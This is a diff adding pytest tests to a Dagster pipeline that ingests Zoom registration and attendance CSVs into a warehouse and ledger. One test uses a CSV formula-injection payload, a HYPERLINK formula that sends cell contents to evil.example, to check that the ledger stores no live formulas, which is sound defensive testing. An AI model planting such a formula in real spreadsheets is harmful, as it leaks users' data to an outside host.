@@ -35,7 +35,9 @@ def drop(folder: Path, name: str, content: str | bytes, *, age_seconds: float = 
     return path
 
 
-def run(drop_dir: Path, warehouse: Warehouse, zoom_drop: ZoomDropFolder | None = None) -> dg.ExecuteInProcessResult:
+def run(
+    drop_dir: Path, warehouse: Warehouse, zoom_drop: ZoomDropFolder | None = None, instance: dg.DagsterInstance | None = None
+) -> dg.ExecuteInProcessResult:
     result = dg.materialize(
         [zoom_reports, bootcamp_attendance],
         resources={
@@ -44,9 +46,17 @@ def run(drop_dir: Path, warehouse: Warehouse, zoom_drop: ZoomDropFolder | None =
             "mappings": Mappings(directory=str(PROJECT_ROOT / "mappings")),
             "io_manager": io_manager_for(warehouse),
         },
+        instance=instance,
     )
     assert result.success
     return result
+
+
+def run_log(drop_dir: Path, warehouse: Warehouse) -> str:
+    """A run's log as the UI shows it."""
+    with dg.instance_for_test() as instance:
+        result = run(drop_dir, warehouse, instance=instance)
+        return "\n".join(entry.user_message for entry in instance.all_logs(result.run_id))
 
 
 def metadata(result: dg.ExecuteInProcessResult, asset: str) -> dict:
@@ -266,3 +276,159 @@ def test_sensor_reads_a_cursor_written_before_looks_were_kept(tmp_path):
     first_look = sensor_tick(drop_dir, cursor=old_cursor)
     assert not first_look.run_requests
     assert len(sensor_tick(drop_dir, cursor=first_look.cursor).run_requests) == 1
+
+
+def registrants(count: int) -> list[dict]:
+    return [
+        {"first": f"P{i}", "last": "R", "email": f"p{i}@x.com", "phone": f"98765{i:05d}", "registered": "Oct 30, 2025 10:02 AM"}
+        for i in range(count)
+    ]
+
+
+EARLIER = registration_report("ACCA Masterclass", "812 3456 7890", START, registrants(28), generated="Nov 3, 2025 09:15 PM")
+CORRECTION = registration_report("ACCA Masterclass", "812 3456 7890", START, registrants(30), generated="Nov 4, 2025 10:40 AM")
+
+
+def test_a_browser_renamed_correction_dropped_with_the_earlier_report_wins_by_zooms_generated_time(tmp_path, sqlite_warehouse):
+    drop_dir = tmp_path / "zoom_drop"
+    # the correction is older on disk and sorts first by name: neither may decide
+    drop(drop_dir, "reg (1).csv", CORRECTION, age_seconds=600)
+    drop(drop_dir, "reg.csv", EARLIER, age_seconds=300)
+    run(drop_dir, sqlite_warehouse)
+
+    assert sqlite_warehouse.row_count("event_participants") == 30, "the two registrants only the correction has are kept"
+    ledger = sqlite_warehouse.read_table("ingested_files").set_index("file_name")
+    assert ledger["status"].to_dict() == {"reg (1).csv": "loaded", "reg.csv": "replaced"}
+    assert "reg (1).csv" in ledger.loc["reg.csv", "error"], "the replaced file names the one that replaced it"
+
+
+def test_a_correction_dropped_before_the_earlier_report_still_wins(tmp_path, sqlite_warehouse):
+    drop_dir = tmp_path / "zoom_drop"
+    drop(drop_dir, "correction.csv", CORRECTION)
+    run(drop_dir, sqlite_warehouse)
+    drop(drop_dir, "reg.csv", EARLIER)  # the older download, dropped a day later
+    run(drop_dir, sqlite_warehouse)
+
+    assert sqlite_warehouse.row_count("event_participants") == 30
+    ledger = sqlite_warehouse.read_table("ingested_files")
+    assert ledger["status"].tolist() == ["loaded", "replaced"]
+    assert "correction.csv" in ledger["error"].iloc[1] and pd.isna(ledger["error"].iloc[0])
+
+
+def test_a_meeting_report_cut_at_a_line_end_is_loaded_with_a_note_that_its_count_could_not_be_checked(tmp_path, sqlite_warehouse):
+    drop_dir = tmp_path / "zoom_drop"
+    lines = (PROJECT_ROOT / "sample_data" / "zoom" / "83300045678_participants_2025-11-06.csv").read_bytes().splitlines(keepends=True)
+    drop(drop_dir, "bootcamp.csv", b"".join(lines[:8]))  # the summary, the header and 4 participants of 10
+    drop(drop_dir, "reg.csv", EARLIER)
+    run(drop_dir, sqlite_warehouse)
+
+    ledger = sqlite_warehouse.read_table("ingested_files").set_index("file_name")
+    assert ledger["status"].to_dict() == {"bootcamp.csv": "loaded", "reg.csv": "loaded"}
+    note = ledger.loc["bootcamp.csv", "error"]
+    assert "could not be checked" in note and "meeting participants report" in note
+    assert pd.isna(ledger.loc["reg.csv", "error"]), "a report its own counts vouch for has no note"
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+def test_the_ledger_on_the_share_holds_no_live_formula_and_reads_back_as_written(tmp_path, sqlite_warehouse):
+    import csv
+
+    drop_dir = tmp_path / "zoom_drop"
+    report = registration_report(FORMULA, "812 3456 7890", START, [ASHA])
+    drop(drop_dir, "=HYPERLINK(1).csv", report, age_seconds=300)
+    drop(drop_dir, "'-quoted already.csv", "not a report", age_seconds=200)  # its own apostrophe survives the round trip
+    drop(drop_dir, "+1 leads.csv", "", age_seconds=100)
+    run(drop_dir, sqlite_warehouse)
+
+    with (drop_dir / "ledger" / "ingested_files.csv").open(newline="", encoding="utf-8") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert not live, f"cells a spreadsheet would run as formulas: {live}"
+
+    drop(drop_dir, "again.csv", report)  # the ledger is the archive's index: read back, it knows this content
+    run(drop_dir, sqlite_warehouse)
+    ledger = sqlite_warehouse.read_table("ingested_files")
+    assert ledger["file_name"].tolist() == ["=HYPERLINK(1).csv", "'-quoted already.csv", "+1 leads.csv", "again.csv"]
+    assert ledger["status"].tolist() == ["loaded", "rejected", "rejected", "duplicate"]
+    assert ledger["event_name"].iloc[0] == FORMULA
+    assert ledger["error"].iloc[2].startswith("+1 leads.csv: the file is empty")
+
+
+LONG_REPORT = "ACCA Masterclass registration report " + "a" * 209 + ".csv"  # 250 bytes
+LONG_JUNK = "é" * 123 + ".csv"  # 250 bytes in UTF-8
+
+
+def test_a_250_byte_file_name_is_loaded_or_set_aside_under_a_shortened_name_and_the_ledger_keeps_the_original(
+    tmp_path, sqlite_warehouse
+):
+    drop_dir = tmp_path / "zoom_drop"
+    assert len(LONG_REPORT.encode()) == 250 and len(LONG_JUNK.encode()) == 250
+    drop(drop_dir, LONG_REPORT, registration_report("ACCA Masterclass", "812 3456 7890", START, [ASHA]), age_seconds=200)
+    drop(drop_dir, LONG_JUNK, "Name,Email\nAsha,a@x.com\n", age_seconds=100)
+    run(drop_dir, sqlite_warehouse)
+    run(drop_dir, sqlite_warehouse)  # and the next run reads the archive back
+
+    ledger = sqlite_warehouse.read_table("ingested_files")
+    assert ledger["file_name"].tolist() == [LONG_REPORT, LONG_JUNK] and ledger["status"].tolist() == ["loaded", "rejected"]
+    assert sqlite_warehouse.read_table("event_participants")["source_file"].tolist() == [LONG_REPORT]
+    assert not list(drop_dir.glob("*.csv"))
+    written = [*(drop_dir / "processed").iterdir(), *(drop_dir / "rejected").iterdir()]
+    assert len(written) == 3 and all(len(p.name.encode()) <= 255 for p in written)
+
+
+APPLE_DOUBLE = b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        " + b"\x00" * 40
+OFFICE_LOCK = b"\x05asha " + b" " * 48 + b"\x05\x00a\x00s\x00h\x00a\x00" + b"\x00" * 90
+
+
+def test_hidden_files_are_judged_like_any_other_and_system_sidecar_files_are_ignored_quietly(tmp_path, sqlite_warehouse):
+    drop_dir = tmp_path / "zoom_drop"
+    drop(drop_dir, ".reg.csv", registration_report("ACCA Masterclass", "812 3456 7890", START, [ASHA]), age_seconds=200)
+    drop(drop_dir, ".notes.csv", "my notes, not a report\n", age_seconds=100)
+    drop(drop_dir, "._reg.csv", APPLE_DOUBLE)  # macOS's sidecar of a file copied from a Mac
+    drop(drop_dir, "~$reg.csv", OFFICE_LOCK)  # Excel's lock file while someone has reg.csv open
+    first = sensor_tick(drop_dir)
+    assert len(sensor_tick(drop_dir, cursor=first.cursor).run_requests) == 1
+
+    logged = run_log(drop_dir, sqlite_warehouse)
+    ledger = sqlite_warehouse.read_table("ingested_files")
+    assert ledger["file_name"].tolist() == [".reg.csv", ".notes.csv"] and ledger["status"].tolist() == ["loaded", "rejected"]
+    assert sqlite_warehouse.row_count("event_participants") == 1
+    assert ".reg.csv: its name starts with '.'" in logged
+    assert sorted(p.name for p in drop_dir.glob("*.csv")) == ["._reg.csv", "~$reg.csv"], "left alone"
+
+    only_sidecars = sensor_tick(drop_dir)
+    assert not sensor_tick(drop_dir, cursor=only_sidecars.cursor).run_requests
+
+
+def test_a_report_is_parsed_once_and_later_runs_reuse_its_parsed_rows(tmp_path, sqlite_warehouse, monkeypatch):
+    from funnel_assets.lib import zoom_ingest
+    from funnel_assets.lib.zoom_reports import parse_zoom_report
+
+    parsed: list[str] = []
+
+    def counting(content: bytes, file_name: str):
+        parsed.append(file_name)
+        return parse_zoom_report(content, file_name=file_name)
+
+    monkeypatch.setattr(zoom_ingest, "parse_zoom_report", counting)
+    drop_dir = tmp_path / "zoom_drop"
+    drop(drop_dir, "reg.csv", registration_report("ACCA Masterclass", "812 3456 7890", START, [ASHA, RAVI]), age_seconds=200)
+    drop(drop_dir, "att.csv", attendee_report("ACCA Masterclass", "812 3456 7890", START, [{**ASHA, "joins": JOINED}, RAVI]))
+    run(drop_dir, sqlite_warehouse)
+    assert sorted(parsed) == ["att.csv", "reg.csv"]
+    first = sqlite_warehouse.read_table("event_participants")
+
+    run(drop_dir, sqlite_warehouse)
+    assert sorted(parsed) == ["att.csv", "reg.csv"], "the archived reports are not parsed again"
+    pd.testing.assert_frame_equal(sqlite_warehouse.read_table("event_participants"), first)
+
+    kept = sorted((drop_dir / "cache").glob("*.arrow"))
+    assert len(kept) == 2
+    kept[0].write_bytes(kept[0].read_bytes()[:100])  # damaged (a disk filled up, a copy tool cut it)
+    run(drop_dir, sqlite_warehouse)
+    assert len(parsed) == 3, "a damaged entry is simply parsed again"
+    pd.testing.assert_frame_equal(sqlite_warehouse.read_table("event_participants"), first)
+    run(drop_dir, sqlite_warehouse)
+    assert len(parsed) == 3, "and kept anew"
